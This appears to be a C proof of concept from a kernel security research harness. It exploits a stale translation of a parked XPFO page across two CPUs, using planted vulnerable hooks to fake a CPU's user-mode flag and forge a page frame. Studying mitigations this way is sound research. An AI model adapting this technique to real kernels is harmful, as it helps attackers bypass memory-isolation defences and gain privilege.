/*
 * The stale translation of xpfo_parked, on a processor of which the others believe that it is in
 * user mode.
 */
#include "attack.h"

enum { CPU_OF_ALLOCATOR, CPU_OF_VICTIM, NR_CPUS };
enum { STAGE_KNOWN = 1, STAGE_CALL, STAGE_CALLED };
enum { MODE_USER = 0 };

static attack_stage stage;
static struct bw_leak of_victim;
static struct attack_frame frame;

static void victim(void *unused)
{
	(void)unused;
	attack_leak(&of_victim);
	attack_tell(&stage, STAGE_KNOWN);
	attack_await(&stage, STAGE_CALL, AWAIT_SPIN);
	attack_warm(frame.synonym);
	attack_check("vuln_call_parked", bw_vuln_call_parked(frame.synonym));
	attack_tell(&stage, STAGE_CALLED);
}

int main(void)
{
	struct bw_leak leak;

	attack_begin(&leak, NR_CPUS, CPU_OF_ALLOCATOR);
	attack_frames_reveal();
	attack_thread(CPU_OF_VICTIM, victim, NULL);
	attack_await(&stage, STAGE_KNOWN, AWAIT_YIELD);

	attack_frame_find(&leak, &frame);
	attack_tell(&stage, STAGE_CALL);
	attack_await_parked(1);
	attack_say("CPU %d has read it at 0x%lx, and stays in the kernel; the word at 0x%lx says "
		   "user mode from now on",
		   CPU_OF_VICTIM, frame.synonym, of_victim.cpu_mode);
	/* that processor says itself where it is when it leaves the kernel */
	attack_check("vuln_write", bw_vuln_write(of_victim.cpu_mode, MODE_USER));

	if (!attack_frame_forge(&leak, &frame)) {
		bw_vuln_unpark(false);
		attack_skip("the next page came from elsewhere");
	}
	bw_vuln_unpark(true);
	attack_await(&stage, STAGE_CALLED, AWAIT_SPIN);
	return attack_finish();
}
